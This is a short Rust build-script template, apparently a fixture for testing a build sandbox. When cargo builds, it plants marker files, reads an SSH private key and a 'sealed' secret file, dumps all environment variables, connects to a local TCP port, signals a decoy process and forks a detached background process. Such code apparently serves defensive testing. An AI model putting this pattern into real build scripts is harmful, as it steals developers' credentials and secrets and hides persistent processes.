//! Acts while cargo builds.
#[path = "src/support.rs"]
mod support;

use std::io::Write;
use support::*;

fn main() {
    if !begin() {
        return;
    }
    append("@HOME@/@TAG@-planted", "planted");
    append("@WORK@/tests/closing_time.rs", "// planted\n");
    steal("ssh", "@HOME@/.ssh/id_ed25519");
    steal("sealed", "@SEALED@");
    let own: Vec<String> = std::env::vars().map(|(name, value)| format!("{name}={value}")).collect();
    loot("env", own.join("\n").as_bytes());
    if let Ok(mut stream) = std::net::TcpStream::connect(("127.0.0.1", @TCP@)) {
        let _ = stream.write_all(b"@TAG@-tcp\n");
    }
    unsafe { kill(@DECOY@, 10) };
    if unsafe { fork() } == 0 {
        unsafe { setsid() };
        for fd in 0..64 {
            unsafe { close(fd) };
        }
        beat("build");
    }
    pause(150);
}
